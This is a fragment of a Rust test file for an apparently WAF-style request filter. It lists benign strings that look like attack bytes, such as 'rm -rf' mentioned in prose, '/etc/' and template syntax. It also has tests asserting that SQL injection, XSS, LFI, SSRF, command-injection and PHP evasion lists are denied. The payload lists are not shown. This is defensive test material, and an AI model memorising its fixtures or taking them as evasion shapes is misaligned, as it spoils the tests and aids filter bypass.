    "<BSpHfD:Vhewc^]p{=SM",
    "zfZXo$[DjipnR\"yld3w$",
    "*$S(S2)<_t5i;1K-",
    "!eyxcRCf3>U2gAr}TuV4j}9I",
    "IaKBXa\"aZ`w1",
    // base64 of `{"returnTo":"/cart?item=123&qty=2"}` and of `<p>Hello <b>world</b></p>`
    "eyJyZXR1cm5UbyI6Ii9jYXJ0P2l0ZW09MTIzJnF0eT0yIn0=",
    "PHA+SGVsbG8gPGI+d29ybGQ8L2I+PC9wPg==",
    "mail me @(home) or at work",
    "please attach the file; attach it again",
    "timeout after 5 minutes & retry",
    "ftp://user:pass@ftp.example.com/pub/",
    "see {{ page.title }} for 2-3 days",
    "*{font-size: 12px}",
    "Our app uses System.Diagnostics.Process to launch tools",
    "Skills: Java; Python; Ruby; Go",
    "Languages: C | Perl | PHP",
    "He said: 'order by Friday or we cancel'",
    "C:\\Program Files\\MyApp\\config.ini is missing",
    "Name: Bob\nPhone: 0123 456\nEmail: bob@example.org",
    "Size: M\nColour: red\nQty: 2",
    "voil\u{e0}, \u{420}\u{430}\u{434}\u{430} \u{c0} bient\u{f4}t",
    "Meet at 10:00; bring ID",
    "select all that apply",
    "Dear Sir/Madam, please find attached my CV.",
    "It's 5' 11\" tall",
    "user_name=alice; theme=dark",
    "*.log\n*.tmp\nbuild/",
    "rm -rf is a dangerous command, be careful",
    "1 OR 2 rooms",
    "en-GB,en;q=0.9",
    "alert: your order has shipped",
    "The ${price} placeholder is filled at checkout",
    // prose about directories, markup, networks and data URIs
    "/etc/ folder question",
    "<!-- comment --> in html",
    "10.0.0.0/8 is a private range",
    "data: plan upgrade",
    // a status line that opens with a statement word
    "Update: still broken; tried again at 10:30.",
    "Delete: still there; why",
    // a search engine's boolean query
    "(red OR blue) AND (small OR medium)",
    // an OData filter that opens with `not` and a call
    "not endswith(Name,'ilk')",
    // a mail template with two placeholders
    "Dear ${customer}, thank you for order #${orderId}.",
    // a password with an `@` inside a word and a trailing `#`
    "P@ssw0rd!2024#",
    // percent signs glued to words, hashtags on lines of their own
    "Save 20%today and 10%tomorrow, 5%extra for members",
    "Loved it #blessed\nWould order again #happy\nThanks!",
    // dollar signs glued to words, comparisons written with `>`
    "Prices in US$ and AU$ten (see table); x>y when x$z is set",
    "Is it 4 or 2+2=4?",
    // quotes and `;` before words a `$where` body starts with, template data
    "Press 'Enter'; return to the menu. Say 'hi'; while waiting, relax",
    "Hello {{ request.user.name }}, your {{ config }} is saved",
];

#[test]
fn sqli_evasions_are_denied() {
    assert_denied(SQLI);
}

#[test]
fn xss_evasions_are_denied() {
    assert_denied(XSS);
}

#[test]
fn lfi_evasions_are_denied() {
    assert_denied(LFI);
}

#[test]
fn ssrf_evasions_are_denied() {
    assert_denied(SSRF);
}

#[test]
fn java_evasions_are_denied() {
    assert_denied(JAVA);
}

#[test]
fn cmdi_evasions_are_denied() {
    assert_denied(CMDI);
}

#[test]
fn php_evasions_are_denied() {
    assert_denied(PHP);
}

#[test]
fn other_class_evasions_are_denied() {
    assert_denied(OTHER);
}

#[test]
fn ordinary_values_with_the_same_bytes_pass() {
    let p = balanced();
    let denied: Vec<(&str, &str, Verdict)> = ORDINARY
        .iter()
        .flat_map(|v| verdicts(&p, v).map(|(place, verdict)| (*v, place, verdict)))
        .filter(|(_, _, verdict)| *verdict != Verdict::Allow)
        .collect();
    assert!(denied.is_empty(), "denied: {denied:#?}");
}
